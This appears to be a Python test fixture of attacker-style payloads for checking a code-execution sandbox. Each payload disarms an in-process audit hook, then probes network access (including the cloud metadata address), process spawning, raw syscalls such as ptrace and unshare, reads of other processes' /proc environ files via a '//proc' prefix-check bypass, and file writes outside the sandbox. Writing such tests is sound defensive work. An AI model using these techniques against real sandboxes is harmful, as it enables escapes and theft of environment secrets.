"""Code-node payloads written as an attacker would, shared by the sandbox tests.

Every payload starts by switching off the in-process audit hook the way the issue showed
(``sys.modules['__main__']._hook.__defaults__``), so what stops it must be the operating system.
Each ``main`` reports what it managed, as JSON, instead of failing at the first refusal.
"""

from __future__ import annotations

DISARM = '''
import sys


def _disarm():
    """Empty the hook's block list and drop it from the bootstrap's globals."""
    boot = sys.modules.get("__main__")
    hook = getattr(boot, "_hook", None)
    if hook is not None and hook.__defaults__:
        hook.__defaults__ = tuple(() for _ in hook.__defaults__)
    for name in ("_BLOCKED", "_WATCHED"):
        if hasattr(boot, name):
            setattr(boot, name, ())


_disarm()


def _try(fn):
    try:
        return "DONE: " + repr(fn())[:20000]
    except BaseException as exc:  # noqa: BLE001
        return f"refused: {type(exc).__name__}: {exc}"[:200]
'''

NETWORK = (
    DISARM
    + """
import socket


def main(port, redis_port):
    def tcp(p):
        with socket.create_connection(("127.0.0.1", p), timeout=2) as s:
            s.sendall(b"PING\\r\\n")
            return s.recv(64)

    return {
        "listener": _try(lambda: tcp(port)),
        "redis": _try(lambda: tcp(redis_port)),
        "metadata": _try(lambda: tcp_meta()),
        "udp": _try(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
        "ipv6": _try(lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM)),
        "netlink": _try(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)),
    }


def tcp_meta():
    with socket.create_connection(("169.254.169.254", 80), timeout=1) as s:
        return s.getpeername()
"""
)

SPAWN = (
    DISARM
    + """
import os
import subprocess


def main():
    exe = sys.executable.encode()

    def fork_exec():
        import _posixsubprocess

        r, w = os.pipe()
        args = [[exe, b"-c", b"print('spawned')"], [exe], True, (w,), None, None,
                -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None]
        try:
            return _posixsubprocess.fork_exec(*args, True)  # 3.11+: allow_vfork
        except TypeError:
            return _posixsubprocess.fork_exec(*args)

    def fork():
        pid = os.fork()
        if pid == 0:
            os._exit(0)
        return pid

    found = {
        "fork_exec": _try(fork_exec),
        "fork": _try(fork),
        "subprocess": _try(lambda: subprocess.run([exe, "-c", "print(1)"], capture_output=True)),
        "posix_spawn": _try(lambda: os.posix_spawn(exe, [exe, "-c", "1"], {})),
        "system": _try(lambda: os.system("echo spawned") == 0 or _raise("system failed")),
    }
    # Last: if exec works, this process is gone and no result comes back at all.
    found["execv"] = _try(lambda: os.execv(exe, [exe, "-c", "print('replaced')"]))
    return found


def _raise(message):
    raise OSError(message)
"""
)

SYSCALLS = (
    DISARM
    + """
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)
NR = {"socket": 41, "ptrace": 101, "mount": 165, "unshare": 272, "keyctl": 250, "bpf": 321,
      "fork": 57, "setns": 308, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425}


def call(name, *args):
    rc = libc.syscall(NR[name], *[ctypes.c_long(a) for a in args])
    if rc == -1:
        return "refused: " + errno.errorcode.get(ctypes.get_errno(), "?")
    if name == "fork" and rc == 0:
        os._exit(0)
    return f"DONE: {rc}"


def main():
    buf = ctypes.create_string_buffer(256)
    return {
        "socket_inet": call("socket", 2, 1, 0),
        "socket_packet": call("socket", 17, 3, 0),
        "ptrace_traceme": call("ptrace", 0, 0, 0, 0),
        "mount_tmpfs": call("mount", 0, ctypes.addressof(buf), 0, 0, 0),
        "unshare_user_net": call("unshare", 0x10000000 | 0x40000000),
        "keyctl": call("keyctl", 0, -3, 0),
        "bpf": call("bpf", 0, 0, 0),
        "fork": call("fork"),
        "setns": call("setns", 0, 0),
        "perf_event_open": call("perf_event_open", 0, 0, -1, -1, 0),
        "userfaultfd": call("userfaultfd", 0),
        "io_uring_setup": call("io_uring_setup", 1, ctypes.addressof(buf)),
    }
"""
)

SNOOP = (
    DISARM
    + """
import os


def main(host_file):
    seen = {}
    # "//proc" walks past a check for paths starting with "/proc".
    for path in ("//proc/1/environ", "/proc/self/environ", "//proc/self/environ",
                 "//proc/1/cmdline", "//proc/self/../1/environ",
                 "//proc/%d/environ" % os.getppid(), "//proc/%d/cmdline" % os.getppid()):
        seen[path] = _try(lambda p=path: open(p, "rb").read().decode(errors="replace"))
    for pid in [p for p in os.listdir("//proc") if p.isdigit()]:
        seen["//proc/%s/environ" % pid] = _try(
            lambda pid=pid: open("//proc/%s/environ" % pid, "rb").read().decode(errors="replace")
        )
    seen["os.environ"] = dict(os.environ)
    seen["pids"] = sorted(int(p) for p in os.listdir("//proc") if p.isdigit())
    seen["host_file"] = _try(lambda: open(host_file).read())
    seen["root"] = sorted(os.listdir("/"))
    return seen
"""
)

WRITE = (
    DISARM
    + """
import os


def main(host_dir):
    def write(path):
        with open(path, "w") as f:
            f.write("planted")
        return path

    return {
        "host_dir": _try(lambda: write(os.path.join(host_dir, "planted.txt"))),
        "root": _try(lambda: write("/planted.txt")),
        "usr": _try(lambda: write("/usr/lib/planted.txt")),
        "prefix": _try(lambda: write(os.path.join(sys.prefix, "planted.txt"))),
        "dev_shm": _try(lambda: write("/dev/shm/planted.txt")),
        "tmp": _try(lambda: write("/tmp/planted.txt")),
    }
"""
)
